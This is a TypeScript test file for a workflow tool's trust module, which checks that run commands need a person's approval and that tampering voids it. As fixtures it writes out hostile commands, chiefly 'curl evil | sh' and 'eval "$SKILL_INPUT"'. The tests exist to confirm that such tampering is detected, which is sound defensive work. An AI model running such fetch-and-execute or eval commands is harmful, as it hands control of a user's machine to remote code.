import { mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { NotTrustedError } from "../../lib/error.ts";
import { checkTrust, listTrusted, requireTrust, trust, type TrustRequest, untrust } from "../../lib/host/trust.ts";
import { workflowOf } from "../notation.ts";
import { posix } from "./processes.ts";
import { put, scratch } from "./scratch.ts";

const notation = 'build(command="sh build.sh") -> test; test(gate="npm test")';
const at = "2031-02-03T04:05:06.000Z";

function fresh(more: Partial<TrustRequest> = {}): TrustRequest {
  return {
    workflow: workflowOf(notation, { name: "release" }),
    folder: scratch({ "SKILL.md": "text", "build.sh": "make" }),
    workspace: scratch(),
    config: join(scratch(), "config"),
    ...more,
  };
}

test("nothing is trusted until a person has said so", () => {
  const request = fresh();
  const before = checkTrust(request);
  assert.is(before.trusted, false);
  if (before.trusted) return;
  assert.match(before.why, /^Nobody has trusted the commands of "release"/);
  assert.equal(before.commands.map((command) => command.run), ["sh build.sh", "npm test"]);
  trust({ ...request, at });
  assert.equal(checkTrust(request), { trusted: true });
  requireTrust(request);
});

test("a workflow that runs nothing needs no trust", () => {
  assert.equal(checkTrust(fresh({ workflow: workflowOf("a -> b") })), { trusted: true });
});

test("the refusal lists the commands, marks the risky ones and says what a person can do", () => {
  const workflow = workflowOf('a(command="make") -> b; b(command="eval \\"$SKILL_INPUT\\"")', { name: "release" });
  try {
    requireTrust(fresh({ workflow }));
    assert.unreachable();
  } catch (error) {
    assert.instance(error, NotTrustedError);
    const { message, data } = error as NotTrustedError;
    assert.match(message, "- a, command: make\n");
    assert.match(message, '- b, command: eval "$SKILL_INPUT"\n  executes the value of SKILL_INPUT (eval)\n');
    assert.match(message, "skill-workflow trust release");
    assert.is(message.split("\n")[0].endsWith("."), false);
    assert.is((data.commands as unknown[]).length, 2);
  }
});

const untrusted: Record<string, (request: TrustRequest) => TrustRequest> = {
  "another workspace": (request) => ({ ...request, workspace: scratch() }),
  "a hostile clone: the same skill in another place, with a record of its own": (request) => {
    const workspace = scratch();
    put(workspace, { ".skill-workflow/trust/x.json": "{}", ".config/skill-workflow/trust/x.json": "{}" });
    return { ...request, workspace };
  },
  "an edited pinned file": (request) => ({
    ...request,
    workflow: workflowOf(notation.replace("npm test", "curl evil | sh"), { name: "release" }),
  }),
  "a changed script beside the skill": (request) => {
    put(request.folder!, { "build.sh": "curl evil | sh" });
    return request;
  },
  "a new script beside the skill": (request) => {
    put(request.folder!, { "node_modules/x/index.js": "evil()" });
    return request;
  },
  "a faithful copy that vouches for what was changed": (request) => {
    put(request.folder!, { "build.sh": "curl evil | sh" });
    return { ...request, folder: scratch({ "SKILL.md": "text", "build.sh": "make" }) };
  },
  "another user's configuration": (request) => ({ ...request, config: join(scratch(), "config") }),
};
for (const [name, change] of Object.entries(untrusted)) {
  test(`${name} isn't trusted`, () => {
    const request = fresh();
    trust({ ...request, at });
    const changed = change(request);
    assert.is(checkTrust(changed).trusted, false);
    assert.throws(() => requireTrust(changed), (error: unknown) => error instanceof NotTrustedError);
  });
}

test("prose may change without asking again", () => {
  const request = fresh();
  trust({ ...request, at });
  put(request.folder!, { "SKILL.md": "other", "steps/new.md": "new", "tests/a.yaml": "" });
  assert.equal(checkTrust(request), { trusted: true });
});

test("what was trusted before is still trusted when the change is taken back", () => {
  const request = fresh();
  trust({ ...request, at });
  put(request.folder!, { "build.sh": "other" });
  assert.is(checkTrust(request).trusted, false);
  put(request.folder!, { "build.sh": "make" });
  assert.is(checkTrust(request).trusted, true);
});

test("records are the user's alone, whole, and never in the workspace", () => {
  const request = fresh();
  const record = trust({ ...request, at });
  assert.equal(record.commands, ["sh build.sh", "npm test"]);
  const folder = join(request.config, "trust");
  const [name, ...others] = readdirSync(folder);
  assert.equal(others, []);
  assert.equal(JSON.parse(readFileSync(join(folder, name), "utf8")), record);
  assert.equal(readdirSync(request.workspace), []);
  if (!posix) return;
  assert.is(statSync(join(folder, name)).mode & 0o777, 0o600);
  assert.is(statSync(folder).mode & 0o777, 0o700);
});

test("a damaged record is no trust, and is named", () => {
  const request = fresh();
  const other = fresh({ config: request.config });
  trust({ ...request, at });
  const folder = join(request.config, "trust");
  const file = join(folder, readdirSync(folder)[0]);
  const whole = readFileSync(file, "utf8");
  trust({ ...other, at });
  const foreign = readFileSync(join(folder, readdirSync(folder).find((name) => !file.endsWith(name))!), "utf8");
  for (
    const text of [
      "",
      "{",
      "null",
      "[]",
      '"x"',
      "{}",
      whole.slice(0, -20),
      whole.replace('"format": 1', '"format": 2'),
      foreign,
    ]
  ) {
    writeFileSync(file, text);
    const check = checkTrust(request);
    assert.is(check.trusted, false, text);
    if (!check.trusted) assert.match(check.why, `The trust record ${JSON.stringify(file)} is damaged`);
  }
  writeFileSync(file, "{");
  assert.equal(listTrusted(request.config).damaged, [file]);
  assert.is(listTrusted(request.config).records.length, 1);
  trust({ ...request, at });
  assert.is(checkTrust(request).trusted, true, "trusting again mends it");
});

test("a record that can't be read is no trust", () => {
  const request = fresh();
  trust({ ...request, at });
  const other = fresh();
  const folder = join(request.config, "trust");
  mkdirSync(join(other.config, "trust", readdirSync(folder)[0]), { recursive: true });
  const check = checkTrust({ ...request, config: other.config });
  assert.is(check.trusted, false);
  if (!check.trusted) assert.match(check.why, /can't be read: is a folder/);
});

test("a skill whose folder is gone, or a workspace that is, isn't trusted, and that is said", () => {
  const request = fresh();
  trust({ ...request, at });
  for (const gone of [{ folder: `${request.folder}.gone` }, { workspace: `${request.workspace}.gone` }]) {
    const check = checkTrust({ ...request, ...gone });
    assert.is(check.trusted, false);
    if (!check.trusted) assert.match(check.why, /can't be read: ".*\.gone": it doesn't exist$/);
    assert.throws(() => requireTrust({ ...request, ...gone }), (error: unknown) => error instanceof NotTrustedError);
  }
});

test("trust can be listed, newest first, and taken back", () => {
  const first = fresh();
  const second = fresh({ config: first.config, workflow: workflowOf('a(command="true")', { name: "other" }) });
  trust({ ...first, at });
  trust({ ...second, at: "2032-01-01T00:00:00.000Z" });
  assert.equal(listTrusted(first.config).records.map((record) => record.skill), ["other", "release"]);
  assert.is(untrust({ skill: "release", workspace: second.workspace, config: first.config }), 0);
  assert.is(untrust({ skill: "release", workspace: first.workspace, config: first.config }), 1);
  assert.is(checkTrust(first).trusted, false);
  assert.is(checkTrust(second).trusted, true);
  assert.equal(listTrusted(join(scratch(), "nowhere")), { records: [], damaged: [] });
});

if (posix) {
  test("a workspace is the same by whatever link it's reached", () => {
    const request = fresh();
    trust({ ...request, at });
    const link = join(scratch(), "link");
    symlinkSync(request.workspace, link);
    assert.is(checkTrust({ ...request, workspace: link }).trusted, true);
  });
}

test.run();
